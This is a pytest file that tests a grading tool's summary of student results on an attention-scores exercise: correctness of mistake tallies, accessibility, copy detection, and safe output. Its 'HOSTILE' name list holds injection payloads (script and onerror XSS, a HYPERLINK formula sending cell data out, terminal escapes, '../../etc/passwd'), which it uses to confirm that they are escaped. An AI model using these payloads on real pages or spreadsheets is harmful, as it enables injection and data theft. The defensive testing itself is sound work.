"""The summary of a class: true to the reports, safe to open, legible for everybody."""

import csv
import hashlib
import json
import re
from importlib import resources
from pathlib import Path

import jsonschema
import pytest
from axe_playwright_python.sync_playwright import Axe
from bs4 import BeautifulSoup

from attention_lib.check import run
from attention_lib.grading import alike
from attention_lib.grading.summary import Cell, Result, terminal, write
from attention_lib.grading.tally import tally

A = "01-scores"
SCHEMA = json.loads(
    resources.files("attention_lib.grading").joinpath("summary.schema.json").read_text("utf8")
)
TEST, WHY = "check-dot-product-scores", "scores-why-answer"
COSINE = """
def dot_product_scores(Q, K):
    Q = Q / np.linalg.norm(Q, axis=-1, keepdims=True)
    return Q @ (K / np.linalg.norm(K, axis=-1, keepdims=True)).swapaxes(-1, -2)
"""
RESHAPED = """
def dot_product_scores(Q, K):
    return Q @ K.reshape(*K.shape[:-2], K.shape[-1], K.shape[-2])
"""
RIGHT = "def dot_product_scores(Q, K):\n    return Q @ K.swapaxes(-1, -2)\n"
UNWRITTEN = "def dot_product_scores(Q, K):\n    raise NotImplementedError()\n"
A_LIST = "def dot_product_scores(Q, K):\n    return (Q @ K.swapaxes(-1, -2)).tolist()\n"


def summary(folder, results):
    return write(folder, tally(A, results), results)


HOSTILE = [
    "<script>document.title = 'pwned'</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://example.org?"&A1,"look")',
    "+1+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1",
    "ada;=1+1",
    "{{ 7 * 7 }}{% raw %}",
    "ada\x1b[2J\x07",
    "\u202egnp.ada",
    "two\nlines",
    "javascript:alert(1)",
    "../../etc/passwd",
    "nul\0",
    "half \udce9",
    "</style></title><base href=//example.org>",
    "' onmouseover='alert(1)",
    "محمد",
    "王小明",
    "Zoë Ångström",
    "𝒂𝒅𝒂" * 60,
]


def report(source):
    """What the checker says of a function, for real."""
    import numpy as np

    space = {"np": np}
    exec(source, space)
    return run("dot_product_scores", space["dot_product_scores"], seed=3).to_dict()


REPORTS = {}


def result(student, source=RIGHT, **more):
    """A student's result, with one cell that the checker graded and a written answer that waits."""
    if source not in REPORTS:
        REPORTS[source] = report(source)
    found = REPORTS[source]
    cells = {TEST: Cell(found["score"], found["max_score"], found), WHY: Cell(0, 4)}
    fields = {"sources": {"dot-product-scores": source}, "needs_manual": [WHY]} | more
    return Result(student, A, found["score"], 14, cells, **fields)


def classroom():
    return [
        result("ada"),
        result("ben", COSINE, late=7200, late_penalty=1.0),
        result("cleo", COSINE),
        result("dan", RESHAPED, notes=["There are several cells `dot-product-scores`."]),
        result("eve", UNWRITTEN, limits=["A cell ran longer than 60 seconds."]),
        result("fay", A_LIST),
        Result("gil", A, 0, 14, missing=True),
        Result("hal", A, 0, 14, ungraded="01-scores.ipynb is damaged: it can't be read as a notebook."),
    ]


def read(page):
    """The three files of a summary: the page, the table, the JSON."""
    with page.with_suffix(".csv").open(encoding="utf-8-sig", newline="") as file:
        table = list(csv.DictReader(file))
    facts = json.loads(page.with_suffix(".json").read_text(encoding="utf-8"))
    jsonschema.validate(facts, SCHEMA)
    return BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser"), table, facts


def words(soup):
    return " ".join(soup.get_text().split())


# --- What it says ------------------------------------------------------------------------------


def test_a_mistake_is_counted_with_its_sentence_its_students_and_where_to_read():
    facts = tally(A, classroom())
    first = facts["mistakes"][0]
    assert first["sentence"] == "The scores are cosines: queries and keys are divided by their lengths."
    assert first["students"] == ["ben", "cleo"]
    assert first["read"].startswith("chapter 1, “")
    assert [m["students"] for m in facts["mistakes"][1:]] == [["dan"]]


def test_what_no_known_mistake_explains_is_said_to_be_so():
    others = {other["kind"]: other for other in tally(A, classroom())["unexplained"]}
    assert others["unwritten"]["students"] == ["eve"]
    assert others["criterion"]["students"] == ["fay"]
    assert others["criterion"]["criterion"] == "shape"
    assert "It returned a list" in others["criterion"]["sentence"]


def test_sentences_that_differ_in_numbers_are_one_kind_and_others_are_not():
    stops = "def dot_product_scores(Q, K):\n    return Q + unknown\n"
    squared = "def dot_product_scores(Q, K):\n    return ((Q @ K.swapaxes(-1, -2)) ** 1.01 + 0.1).round(7)\n"
    again = squared.replace("0.1)", "0.3)")
    class_of_five = [
        result("a", stops),
        result("b", A_LIST),
        result("c", squared),
        result("d", again),
        result("e", stops),
    ]
    kinds = [other["students"] for other in tally(A, class_of_five)["unexplained"]]
    assert kinds == [["a", "e"], ["c", "d"], ["b"]]


def test_every_lost_point_is_somewhere():
    facts = tally(A, classroom())
    told = {
        student for kind in ("mistakes", "unexplained") for row in facts[kind] for student in row["students"]
    }
    lost = {r["student"] for r in facts["results"] if r["cells"] and r["cells"][TEST]["points"] < 10}
    assert told == lost == {"ben", "cleo", "dan", "eve", "fay"}


def test_what_a_function_was_refused_is_shown_to_the_teacher():
    refused = (
        "def dot_product_scores(Q, K):\n    raise PermissionError('[Errno 1] Operation not permitted')\n"
    )
    facts = tally(A, [result("ada", refused, notes=["Both."], limits=["Both."]), result("ben")])
    (ada,) = facts["limits"]
    assert ada["student"] == "ada"
    assert ada["sentences"][0] == "Both."
    assert f"{TEST}: It stopped with PermissionError" in ada["sentences"][1]
    assert facts["notes"] == []


def test_criteria_add_up_to_the_students():
    (cell, by_hand) = tally(A, classroom())["cells"]
    assert not cell["by_hand"]
    assert by_hand["by_hand"]
    assert by_hand["waiting"] == 6
    assert cell["full"] == 1
    assert len(cell["criteria"]) == 6
    assert {row["holds"] + row["fails"] + row["waits"] for row in cell["criteria"]} == {6}


def test_marks_are_of_those_who_have_some():
    facts = tally(A, classroom())
    assert (facts["students"], facts["graded"]) == (8, 6)
    assert sum(bar["students"] for bar in facts["marks"]["bars"]) == 6
    assert facts["missing"] == ["gil"]
    assert facts["late"] == [{"student": "ben", "seconds": 7200, "penalty": 1.0}]


def test_the_page_says_it_all(tmp_path):
    soup, table, _ = read(summary(tmp_path, classroom()))
    text = words(soup)
    for said in (
        "6 of 8 students have marks",
        "The scores are cosines",
        "It returned a list",
        "chapter 1, “",
        "A cell ran longer than 60 seconds.",
        "There are several cells `dot-product-scores`.",
        "damaged: it can't be read",
        "ben: 2 hours, penalty 1",
        "scores-why-answer: 6 answers",
    ):
        assert said in text
    assert [row["student"] for row in table] == ["ada", "ben", "cleo", "dan", "eve", "fay", "gil", "hal"]
    assert [row["state"] for row in table][5:] == ["graded", "missing", "not graded"]
    assert table[0][TEST] == "10"


def test_the_terminal_says_it_in_fifteen_lines(tmp_path):
    said = terminal(tally(A, classroom()), tmp_path / "x y.html")
    assert len(said.splitlines()) <= 15
    assert "2  The scores are cosines" in said
    assert "Missing: 1 (gil)." in said
    assert said.endswith("x%20y.html")
    crowd = [result(f"student {n}", limits=["Tried."], notes=["Look."], late=5) for n in range(100)]
    assert len(terminal(tally(A, crowd), tmp_path).splitlines()) <= 15


def test_a_feedback_page_that_exists_is_linked(tmp_path):
    place = tmp_path / "feedback" / "ada & ben" / A
    place.mkdir(parents=True)
    (place / f"{A}.html").touch()
    soup, _, _ = read(summary(tmp_path / "summary", [result("ada & ben"), result("cleo")]))
    (link,) = soup.main.find_all("a")
    assert link["href"] == f"../feedback/ada%20%26%20ben/{A}/{A}.html"


def test_a_second_summary_replaces_the_first_and_leaves_nothing_else(tmp_path):
    summary(tmp_path, classroom())
    before = {path.name: path.read_bytes() for path in tmp_path.iterdir()}
    summary(tmp_path, classroom())
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == before
    assert sorted(before) == [f"{A}.{kind}" for kind in ("csv", "html", "json")]


# --- Names are hostile -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    sentence = "<b onclick=alert(1)>bold</b> \x1b[31m"
    results = [
        result(name, [RIGHT, COSINE, A_LIST][n % 3], notes=[sentence], limits=[name], late=n)
        for n, name in enumerate(HOSTILE)
    ]
    results += [Result(name + "!", A, 0, 14, missing=True) for name in HOSTILE]
    results += [Result(name + "?", A, 0, 14, ungraded=name) for name in HOSTILE]
    return results, summary(tmp_path_factory.mktemp("hostile"), results)


def test_no_name_becomes_markup(hostile):
    soup, _, _ = read(hostile[1])
    allowed = """html head meta title style body header h1 h2 h3 p span nav ul li a main section div table thead tbody
        tr th td bdi br em small strong code pre details summary svg defs g path use rect clippath"""
    assert {tag.name.lower() for tag in soup.find_all()} <= set(allowed.split())
    assert not [
        name for tag in soup.find_all() for name in tag.attrs if name.startswith("on") or name == "style"
    ]
    assert all(link["href"].startswith("#") for link in soup.find_all("a"))
    assert "pwned" in words(soup)


def test_no_name_controls_the_terminal_or_turns_the_text(hostile):
    for text in (terminal(tally(A, hostile[0]), hostile[1]), hostile[1].read_text(encoding="utf-8")):
        assert not set(text) & set("\x1b\x07\0\u202e")


def test_no_entry_of_the_table_is_a_formula_in_any_spreadsheet(hostile):
    raw = hostile[1].with_suffix(".csv").read_bytes().decode("utf-8-sig")
    for separator in ",;\t":
        for row in csv.reader(raw.splitlines(keepends=True), delimiter=separator):
            for entry in row:
                assert not re.match(r'["\s]*[=+@＝＋＠]', entry), entry
                assert not re.match(r'["\s]*[-－](?!\d)', entry), entry
    _, table, facts = read(hostile[1])
    assert len(table) == len(facts["results"]) == 3 * len(HOSTILE)


# --- From nobody to a thousand -----------------------------------------------------------------


@pytest.mark.parametrize(
    "results",
    [
        [],
        [result("ada")],
        [Result("ada", A, 0, 14, missing=True)],
        [Result("ada", A, 0, 14, ungraded="Why not.")],
        [Result("ada", A, 0, 0)],
        [Result("ada", A, 103.5, 100), Result("ben", A, -1, 100)],
    ],
    ids=["nobody", "one", "one missing", "one ungraded", "no points at all", "beyond the scale"],
)
def test_a_class_of_nobody_or_one_has_a_page_too(results, tmp_path):
    soup, table, facts = read(summary(tmp_path, results))
    assert len(table) == len(facts["results"]) == len(results)
    assert soup.h1.get_text() == f"{A}: what the class did"
    assert terminal(tally(A, results), tmp_path / "page.html")


def test_a_class_of_a_thousand(tmp_path):
    sources = [RIGHT, COSINE, RESHAPED, UNWRITTEN, A_LIST]
    results = [result(f"student-{n:04}", sources[n % 5]) for n in range(1000)]
    page = summary(tmp_path, results)
    _, table, facts = read(page)
    assert [len(mistake["students"]) for mistake in facts["mistakes"]] == [200, 200]
    assert len(table) == 1000
    assert facts["alike"]["pairs"] == []
    assert page.stat().st_size < 1_500_000


# --- Alike -------------------------------------------------------------------------------------

WORK = {
    "tie-length": """
def tie_length(angle):
    \"\"\"The length at which a key turned by `angle` radians draws level.\"\"\"
    lower, upper = 0.0, 10.0
    query = np.array([[1.0, 0.0]])
    direction = np.array([[math.cos(angle), math.sin(angle)]])
    while upper - lower > 1e-4:
        middle = (lower + upper) / 2
        if dot_product_scores(query, middle * direction)[0, 0] < 1:
            lower = middle
        else:
            upper = middle
    return upper
""",
    "scores-counterexample": """
def scores_counterexample():
    Q = np.array([[[3.0, -1.0, 4.0]], [[1.0, -5.0, 9.0]]])
    K = np.array([[[2.0, 6.0, -5.0], [3.0, 5.0, 8.0]], [[9.0, -7.0, 9.0], [3.0, 2.0, 3.0]]])
    return Q, K
""",
}


def renamed(work):
    """The copy of somebody who is careful: other names, comments, layout and notation."""
    swaps = {
        "lower": "a",
        "upper": "b",
        "middle": "m",
        "direction": "d",
        "query": "one",
        "3.0": "3.",
        "K": "keys",
    }
    copied = {}
    for cell, text in work.items():
        for old, new in swaps.items():
            text = re.sub(rf"(?<![\w.]){re.escape(old)}\b", new, text)
        text = text.replace("    while", "    # my own idea\n\n    while")
        copied[cell] = re.sub(r'"""[^"]*"""', '"""Mine."""', text)
    return copied


@pytest.mark.parametrize("copy", [WORK, renamed(WORK)], ids=["as it is", "with other names"])
def test_a_copy_is_a_pair(copy, tmp_path):
    facts = tally(A, [result("ada", sources=WORK), result("ben"), result("cleo", sources=copy)])
    (pair,) = facts["alike"]["pairs"]
    assert (pair["one"], pair["other"], set(pair["cells"])) == ("ada", "cleo", set(WORK))
    soup, _, _ = read(summary(tmp_path, [result("ada", sources=WORK), result("cleo", sources=copy)]))
    assert "1e-4" in soup.find(id="alike").parent.get_text()


def test_what_the_exercise_or_its_solution_says_is_nobodys_own():
    given = {cell: ["pass", text] for cell, text in WORK.items()}
    assert alike.pairs({"ada": WORK, "cleo": renamed(WORK)}, given) == []


def test_what_many_write_is_the_usual_way():
    assert alike.pairs({f"student {n}": WORK for n in range(10)}, {}) == []


def test_short_functions_are_no_evidence():
    assert (
        alike.pairs({"ada": {"f": RIGHT}, "ben": {"f": RIGHT}, "cy": {"f": COSINE}, "di": {"f": COSINE}}, {})
        == []
    )


BANK = Path(__file__).parents[1] / "check" / "bank"


@pytest.mark.parametrize("problem", sorted(path.name for path in BANK.iterdir() if path.is_dir()))
def test_of_a_class_that_hands_in_the_bank_hardly_a_pair_is_named(problem):
    """The few that are named were made from one another: loops of which one ends too early, and the like."""
    files = sorted(BANK.glob(f"{problem}/*/*.py"))
    sources = {
        f"{path.parent.name}/{path.stem}": {problem: path.read_text(encoding="utf-8")} for path in files
    }
    assert len(alike.pairs(sources, {})) <= (9 if problem == "dot_product_scores" else 4)


# --- In a browser ------------------------------------------------------------------------------


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
@pytest.mark.parametrize("kind", ["plain", "hostile", "nobody"])
def test_the_page_in_a_browser(browser, tmp_path, hostile, kind, width, theme):
    page = {
        "plain": lambda: summary(
            tmp_path, [*classroom(), result("ada 2", sources=WORK), result("c", sources=WORK)]
        ),
        "hostile": lambda: hostile[1],
        "nobody": lambda: summary(tmp_path, []),
    }[kind]()
    # axe-core is a script, which the page's policy forbids; everything else stays under the policy.
    context = browser.new_context(
        viewport={"width": width, "height": 844}, color_scheme=theme, bypass_csp=True
    )
    tab = context.new_page()
    asked, said = [], []
    tab.on("request", lambda request: asked.append(request.url))
    tab.on("console", lambda message: said.append(message.text))
    tab.goto(page.as_uri())
    tab.evaluate("() => document.querySelectorAll('details').forEach((box) => { box.open = true; })")
    violations = (
        Axe().run(tab, options={"resultTypes": ["violations"], "preload": False}).response["violations"]
    )
    assert [(rule["id"], [node["html"] for node in rule["nodes"]]) for rule in violations] == []
    assert tab.evaluate("document.scrollingElement.scrollWidth") <= width
    assert asked == [page.as_uri()]
    assert said == []
    assert tab.title() == f"{A}: what the class did"
    context.close()


def test_the_policy_lets_the_style_in_and_nothing_else(browser, hostile):
    tab = browser.new_page(color_scheme="dark")
    said = []
    tab.on("console", lambda message: said.append(message.text))
    tab.goto(hostile[1].as_uri())
    assert said == []
    assert tab.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(22, 24, 27)"
    blocked = (
        "() => { document.body.insertAdjacentHTML('beforeend', '<img src=http://localhost:9/x onerror=1>') }"
    )
    tab.evaluate(blocked)
    tab.wait_for_timeout(200)
    assert any("Content Security Policy" in line for line in said)
    tab.close()


def test_the_styles_digest_is_in_the_policy(hostile):
    import base64

    soup, _, _ = read(hostile[1])
    digest = base64.b64encode(hashlib.sha256(soup.style.string.encode()).digest()).decode()
    policy = soup.find("meta", {"http-equiv": "Content-Security-Policy"})["content"]
    assert f"'sha256-{digest}'" in policy
    assert "unsafe" not in policy


def test_the_plot_has_words_and_shows_every_student(tmp_path):
    soup, _, _ = read(summary(tmp_path, classroom()))
    plot = soup.find("svg", {"class": "plot"})
    assert plot["role"] == "img"
    assert sum(map(int, re.findall(r": (\d+)", plot["aria-label"]))) == 6
